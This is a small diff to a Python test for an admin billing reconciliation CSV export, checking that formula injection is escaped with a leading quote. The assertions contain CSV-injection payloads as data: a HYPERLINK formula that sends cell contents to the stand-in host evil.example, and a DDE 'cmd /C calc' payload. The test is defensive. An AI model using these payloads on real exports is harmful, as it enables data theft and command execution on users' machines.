@@ -84,7 +84,7 @@ def test_a_statements_text_goes_out_as_text_in_the_reconciliation_csv(admin):
     )
     rows = csv_cells(admin.get(f"/admin/billing/reconciliationrun/{run.pk}/export/"))
     assert len(rows) == 2 and formulas(rows) == []
-    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")" in rows[1]  # all of it, behind a quote
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"open")' in rows[1]  # all of it, behind a quote
     assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows[1]
 
 
